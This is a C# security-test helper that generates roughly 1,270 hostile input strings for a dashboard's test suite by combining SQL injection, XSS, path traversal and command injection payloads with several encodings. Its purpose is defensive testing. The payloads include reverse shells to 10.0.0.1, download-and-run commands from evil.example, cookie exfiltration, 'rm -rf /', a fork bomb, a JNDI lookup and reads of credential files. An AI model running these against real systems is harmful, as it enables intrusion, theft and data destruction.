using System.Globalization;

namespace CsDashboard.Tests.Security;

/// <summary>Lines of attack, made by a grammar: what is tried, in the dress it is tried in.</summary>
internal static class Hostile
{
    private static readonly string[] Sql =
    [
        "' OR '1'='1",
        "' or 1=1--",
        "\" or \"\"=\"",
        "admin'--",
        "admin' #",
        "') or ('1'='1",
        "1 OR 1=1",
        "1' AND SLEEP(5)--",
        "1; DROP TABLE users",
        "1; DROP TABLE users--",
        "'; EXEC xp_cmdshell('dir')--",
        "' UNION SELECT username, password FROM users--",
        "1 UNION ALL SELECT NULL,NULL,NULL--",
        "-1 union select 1,2,3",
        "' UNION/**/SELECT/**/password/**/FROM/**/users--",
        "'; INSERT INTO users (name) VALUES ('x')--",
        "'; UPDATE users SET role='admin' WHERE id=1--",
        "1; DELETE FROM orders",
        "' AND 1=(SELECT COUNT(*) FROM tabname)--",
        "' AND EXISTS(SELECT * FROM users)--",
        "'; WAITFOR DELAY '0:0:5'--",
        "1 AND benchmark(5000000,MD5(1))",
        "' || pg_sleep(10)--",
        "SELECT * FROM information_schema.tables",
        "select name from sqlite_master where type='table'",
        "' having 1=1--",
        "' order by 10--",
        "x' AND email IS NULL; --",
        "' or username like '%admin%",
        "1 and extractvalue(1,concat(0x7e,version()))",
        "select load_file('/etc/passwd')",
        "' union select 1 into outfile '/tmp/x'--",
        "\"; truncate table logs; --",
        "'; shutdown --",
        "') or true--",
        "1 or true#",
        "' xor 1=1#",
        "'; create user x",
        "select @@version",
        "(select password from users where id=1)",
    ];

    private static readonly string[] Script =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<body onload=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe src=javascript:alert(1)>",
        "<object data=evil.swf></object>",
        "<embed src=x>",
        "javascript:alert(document.cookie)",
        "<a href='java\tscript:alert(1)'>",
        "<img src='javascript:alert(1)'>",
        "<div style=\"width:expression(alert(1))\">",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<math href=javascript:alert(1)>",
        "<form action=javascript:alert(1)>",
        "<input onfocus=alert(1) autofocus>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<iframe srcdoc='<script>x</script>'>",
        "<a href=data:text/html,<script>alert(1)</script>>",
        "<img/src/onerror=alert(1)>",
        "vbscript:msgbox(1)",
        "<link rel=stylesheet href=//evil>",
        "<script>document.location='//evil?'+document.cookie</script>",
        "<marquee onstart=alert(1)>",
        "</script><script>alert(1)</script>",
    ];

    private static readonly string[] Path =
    [
        "../../etc/passwd",
        "../../../../../../etc/shadow",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "....//....//etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%252f..%252fetc%252fpasswd",
        "/var/www/../../etc/hosts",
        "C:\\Windows\\System32\\config\\SAM",
        "file:///etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
        "/proc/self/environ",
        "../.env",
        "../.ssh/id_rsa",
        "../WEB-INF/web.xml",
        "images/../../../secret",
        "..;/..;/manager/html",
        "../../../boot.ini",
        "expect://id/../../x",
        "../.git/config",
        "..%5c..%5cwindows%5cwin.ini",
    ];

    private static readonly string[] Command =
    [
        "; cat /etc/hostname",
        "| whoami",
        "&& id",
        "; ls -la",
        "`whoami`",
        "$(whoami)",
        "$(cat /etc/hostname)",
        "; rm -rf /",
        "| nc -e /bin/sh 10.0.0.1 4444",
        "; wget http://evil.example/x.sh",
        "&& curl http://evil.example | sh",
        "; ping -c 10 127.0.0.1",
        "| ping 127.0.0.1",
        "; sleep 10",
        "& dir c:\\",
        "cmd.exe /c dir",
        "powershell -enc SQBFAFgA",
        "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        "${jndi:ldap://evil.example/a}",
        "${IFS}cat",
        "; uname -a",
        "eval('2+2')",
        "system('id')",
        "exec(\"ls\")",
        "os.system('id')",
        "__import__('os').system('id')",
        "subprocess.call(['id'])",
        "; python3 -c 'x'",
        "|| net user hacker /add",
        "; chmod 777 /tmp/x",
        "`curl http://evil.example`",
        "; echo $PATH",
        ":(){ :|:& };:",
        "| tee /tmp/out",
        "eval(base64_decode('x'))",
    ];

    private static readonly Func<string, string>[] Dresses =
    [
        s => s,
        s => "name=" + s,
        s => "Hello, my order is late " + s,
        s => s.ToUpperInvariant(),
        s => string.Concat(s.Select((c, i) => i % 2 == 0 ? char.ToUpperInvariant(c) : char.ToLowerInvariant(c))),
        s => Uri.EscapeDataString(s),
        s => Uri.EscapeDataString(Uri.EscapeDataString(s)),
        s =>
            s.Replace("<", "&lt;", StringComparison.Ordinal)
                .Replace("'", "&#39;", StringComparison.Ordinal)
                .Replace("\"", "&quot;", StringComparison.Ordinal),
        s => "{\"comment\": " + s + "}",
        s => "42" + s,
    ];

    /// <summary>Each of what is tried in each dress: some 1,270 lines.</summary>
    public static IEnumerable<string> Lines()
    {
        foreach (var line in Sql.Concat(Script).Concat(Path).Concat(Command))
        foreach (var dress in Dresses)
            yield return dress(line);
    }
}
